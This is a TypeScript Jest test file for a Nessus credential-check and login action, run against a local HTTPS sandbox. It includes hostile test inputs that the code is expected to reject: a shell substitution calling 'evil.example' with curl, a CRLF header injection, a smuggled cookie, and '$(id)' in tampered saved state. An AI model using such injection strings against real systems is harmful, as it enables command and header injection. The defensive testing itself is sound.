// Nessus: validation, the session-token grammar and the GET /session parser (unit), and the main and
// post steps in-process against the sandbox fake over HTTPS with its CA (action level).
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { ActionFailure } from '../../core/failure.js'
import { buildPlan, INPUT_NAMES, type RawInputs } from '../../plan/index.js'
import { nessus, parseSession, sessionToken } from './index.js'
import { startSandbox } from '../../../sandbox/index.js'
import { readActionInputs } from '../../../scripts/runner.js'
import { runMain, runPost } from '../../../__tests__/helpers/action.js'

type Sandbox = Awaited<ReturnType<typeof startSandbox>>
interface Account {
  username: string
  password: string
  accessKey: string
  secretKey: string
}
let sandbox: Sandbox
let accounts: Record<string, Account>
let sessions: Map<string, string>

beforeAll(async () => {
  sandbox = await startSandbox()
  accounts = sandbox.accounts.nessus as Record<string, Account>
  sessions = (sandbox.fake('nessus') as { sessions: Map<string, string> }).sessions
})
afterAll(() => sandbox.close())
beforeEach(() => sandbox.reset())

const AK = 'c3'.repeat(32)
const SK = 'd4'.repeat(32)

function failure(fn: () => unknown): ActionFailure {
  try {
    fn()
  } catch (error) {
    if (error instanceof ActionFailure) return error
    throw error
  }
  throw new Error('expected an ActionFailure')
}

function raw(inputs: Partial<RawInputs>): RawInputs {
  const defaults = readActionInputs()
  const all = {} as RawInputs
  for (const name of INPUT_NAMES) all[name] = inputs[name] ?? defaults[name]?.default ?? ''
  return all
}

const plan = (inputs: Partial<RawInputs>, env: NodeJS.ProcessEnv = {}) =>
  buildPlan(raw({ url: 'https://nessus.example.com:8834', ...inputs }), nessus, { env })

describe('validation before any request', () => {
  it('requires url: Nessus runs on your own server', () => {
    expect(
      failure(() => buildPlan(raw({ 'access-key': AK, 'secret-key': SK }), nessus, { env: {} }))
        .message
    ).toContain('The url input is required for Nessus')
  })

  it('checks API keys as 64 hexadecimal characters each, read from NESSUS_* too', () => {
    expect(plan({}, { NESSUS_ACCESS_KEY: AK, NESSUS_SECRET_KEY: SK })).toMatchObject({
      authMode: 'api-key',
      credentials: { 'access-key': AK, 'secret-key': SK }
    })
    const message = failure(() => plan({ 'access-key': AK, 'secret-key': SK.slice(0, 32) })).message
    expect(message).toContain('Nessus API keys are 64 hexadecimal characters each')
    expect(message).toContain('secret-key (32 characters)')
    expect(message).toContain('NESSUS_ACCESS_KEY / NESSUS_SECRET_KEY')
  })

  it('builds a session plan from username and password, without a key check', () => {
    expect(plan({ username: 'ada', password: 'p' })).toMatchObject({
      authMode: 'session',
      secrets: ['p']
    })
  })

  it('rejects keys and a password together', () => {
    expect(
      failure(() => plan({ 'access-key': AK, 'secret-key': SK, username: 'u', password: 'p' }))
        .message
    ).toContain('Conflicting credentials for Nessus')
  })

  it('refuses required-permissions, pointing to required-roles', () => {
    const message = failure(() =>
      plan({ username: 'u', password: 'p', 'required-permissions': 'scans' })
    ).message
    expect(message).toContain('The required-permissions input cannot be used with Nessus')
    expect(message).toContain('Use required-roles instead')
  })

  it('takes roles by name or level, and refuses others, listing the levels', () => {
    expect(
      plan({ username: 'u', password: 'p', 'required-roles': 'system administrator, 32' })
        .requiredRoles
    ).toEqual(['system administrator', '32'])
    expect(
      failure(() => plan({ username: 'u', password: 'p', 'required-roles': 'Scan Manager' }))
        .message
    ).toContain('Basic (16), Standard (32), Administrator (64), System Administrator (128)')
  })
})

describe('the session token grammar', () => {
  it('accepts the 48 hexadecimal characters Nessus issues', () => {
    const token = 'ea2143b2e3ae5d15da1998026408d7b0793d88b9150f78a0'
    expect(sessionToken(token, 'the token')).toBe(token)
  })

  it.each([
    ['a shell substitution', '$(curl evil.example)'],
    ['a header injection', `${'ab'.repeat(24)}\r\nX-Other: 1`],
    ['a second cookie', `${'ab'.repeat(24)}; admin=1`],
    ['too short', 'abc123'],
    ['empty', ''],
    ['absent', undefined]
  ])('refuses %s without quoting it', (_name, value) => {
    const message = failure(() => sessionToken(value, 'the session token')).message
    expect(message).toContain('The server answered with a malformed credential')
    expect(message).toContain('not a Nessus session token')
    if (value) expect(message).not.toContain(value)
  })
})

describe('parseSession: the GET /session shape', () => {
  it('reads the user and its level', () => {
    expect(
      parseSession({
        lockout: 0,
        connectors: null,
        whatsnew: true,
        container_id: 0,
        groups: null,
        lastlogin: 1700000000,
        permissions: 128,
        type: 'local',
        name: 'Root Sysadmin',
        email: 'root@acme.example',
        username: 'root',
        id: 1
      })
    ).toEqual({
      userId: '1',
      username: 'root',
      displayName: 'Root Sysadmin',
      email: 'root@acme.example',
      roles: ['System Administrator'],
      roleLevel: 128,
      permissions: undefined,
      organization: ''
    })
  })

  it('uses the username as the display name when there is no name, and leaves roles unknown without a level', () => {
    expect(parseSession({ id: 5, username: 'svc' })).toMatchObject({
      displayName: 'svc',
      roles: undefined
    })
  })
})

describe('Nessus main and post steps (real @actions/core, sandbox over HTTPS)', () => {
  const https = (inputs: Record<string, string>): Record<string, string> => ({
    vendor: 'nessus',
    url: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
    'ca-cert': sandbox.caCertPath,
    ...inputs
  })
  const paths = (): string[] => sandbox.requests.map((r) => `${r.method} ${r.path}`)

  it('verifies API keys with one GET /session and exports NESSUS_URL / _ACCESS_KEY / _SECRET_KEY', async () => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        'access-key': admin.accessKey,
        'secret-key': admin.secretKey,
        'required-roles': 'Standard'
      })
    )
    expect(step.errors).toEqual([])
    expect(step.exitCode).toBe(0)
    expect(paths()).toEqual(['GET /session'])
    const header = `accessKey=${admin.accessKey}; secretKey=${admin.secretKey};`
    expect(sandbox.requests[0]!.headers['x-apikeys']).toBe(header)
    expect(sandbox.requests[0]!.secure).toBe(true)
    expect(step.outputs).toMatchObject({
      vendor: 'nessus',
      'user-id': '2',
      username: 'ada',
      'display-name': 'Ada Admin',
      email: 'ada@acme.example',
      roles: '["Administrator"]',
      permissions: '[]',
      'auth-header': `X-ApiKeys: ${header}`,
      token: ''
    })
    expect(step.env).toMatchObject({
      NESSUS_URL: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
      NESSUS_ACCESS_KEY: admin.accessKey,
      NESSUS_SECRET_KEY: admin.secretKey
    })
    expect(step.env.NESSUS_TOKEN).toBeUndefined()
    expect(step.masks).toEqual(expect.arrayContaining([admin.accessKey, admin.secretKey, header]))
    expect(step.state.logout).toBeUndefined()
  })

  it('logs in with two requests, exports the token, and the post step ends the session', async () => {
    const standard = accounts.standard!
    const inputs = https({
      username: standard.username,
      password: standard.password,
      'required-roles': '32'
    })
    const main = await runMain(inputs)
    expect(main.errors).toEqual([])
    expect(main.exitCode).toBe(0)
    expect(paths()).toEqual(['POST /session', 'GET /session'])
    expect(JSON.parse(sandbox.requests[0]!.body)).toEqual({
      username: standard.username,
      password: standard.password
    })
    const token = main.outputs.token!
    expect(token).toMatch(/^[0-9a-f]{48}$/)
    expect(sandbox.requests[1]!.headers['x-cookie']).toBe(`token=${token}`)
    expect(main.outputs['auth-header']).toBe(`X-Cookie: token=${token}`)
    expect(main.env).toMatchObject({
      NESSUS_URL: `${sandbox.httpsLocalhostUrl}/_vendor/nessus`,
      NESSUS_TOKEN: token
    })
    expect(main.env.NESSUS_ACCESS_KEY).toBeUndefined()
    expect(main.masks).toEqual(expect.arrayContaining([standard.password, token]))
    expect(sessions.has(token)).toBe(true)

    const post = await runPost(main.state, inputs)
    expect(post.warnings).toEqual([])
    expect(paths()).toEqual(['POST /session', 'GET /session', 'DELETE /session'])
    expect(sandbox.requests[2]!.headers['x-cookie']).toBe(`token=${token}`)
    expect(sessions.has(token)).toBe(false)
    expect(post.log.join('\n')).toContain('Logged out of Nessus')
  })

  it('explains a wrong password after one request', async () => {
    const step = await runMain(https({ username: 'bea', password: 'not-the-password' }))
    expect(step.exitCode).toBe(1)
    expect(step.errors).toHaveLength(1)
    expect(step.errors[0]).toContain('Nessus: the login of bea was refused (HTTP 401')
    expect(step.errors[0]).toContain('Nessus said: Invalid Credentials')
    expect(step.errors[0]).toContain('the username or password is wrong')
    expect(paths()).toEqual(['POST /session'])
  })

  it('explains the 412 of Nessus Professional, and ends the session it opened at once', async () => {
    const admin = accounts.admin!
    const step = await runMain(
      https({
        url: `${sandbox.httpsLocalhostUrl}/_fault/nessus-412/_vendor/nessus`,
        username: admin.username,
        password: admin.password
      })
    )
    expect(step.exitCode).toBe(1)
    expect(step.errors).toHaveLength(1)
    expect(step.errors[0]).toContain(
      'Nessus: the API is not available on this Nessus licence (Nessus Professional and Expert restrict it) (HTTP 412'
    )
    expect(step.errors[0]).toContain('Nessus said: API is not available')
    expect(step.errors[0]).toContain('Nessus Manager')
    expect(paths()).toEqual(['POST /session', 'GET /session', 'DELETE /session'])
    expect(step.state.logout).toBeUndefined()
  })

  it('fails the level gate for a lower level, and the post step still ends the session', async () => {
    const basic = accounts.basic!
    const inputs = https({
      username: basic.username,
      password: basic.password,
      'required-roles': 'Administrator'
    })
    const main = await runMain(inputs)
    expect(main.exitCode).toBe(1)
    expect(main.errors[0]).toContain(
      'bea (Bea Basic, bea@acme.example) holds "Basic", and this step requires "Administrator" or a higher level (required-roles)'
    )
    expect(main.outputs.token).toBeUndefined()
    await runPost(main.state, inputs)
    expect(paths()).toEqual(['POST /session', 'GET /session', 'DELETE /session'])
    expect(sessions.size).toBe(0)
  })

  it('turns a failed logout into a warning', async () => {
    const admin = accounts.admin!
    const inputs = https({ username: admin.username, password: admin.password })
    const main = await runMain(inputs)
    expect(main.exitCode).toBe(0)
    sessions.clear()
    const post = await runPost(main.state, inputs)
    expect(post.exitCode).toBe(0)
    expect(post.warnings).toHaveLength(1)
    expect(post.warnings[0]).toContain(
      'the session was not ended: the server no longer knew it (HTTP 401'
    )
  })

  it('refuses a tampered token in the saved state without sending it', async () => {
    const admin = accounts.admin!
    const inputs = https({ username: admin.username, password: admin.password })
    const main = await runMain(inputs)
    sandbox.reset()
    const state = { ...main.state }
    const key = Object.keys(state).find((name) => state[name]!.includes(main.outputs.token!))!
    state[key] = state[key]!.replace(main.outputs.token!, '$(id)')
    const post = await runPost(state, inputs)
    expect(post.exitCode).toBe(0)
    expect(sandbox.requests).toHaveLength(0)
    expect(post.warnings.join('\n')).toContain('malformed credential')
  })
})
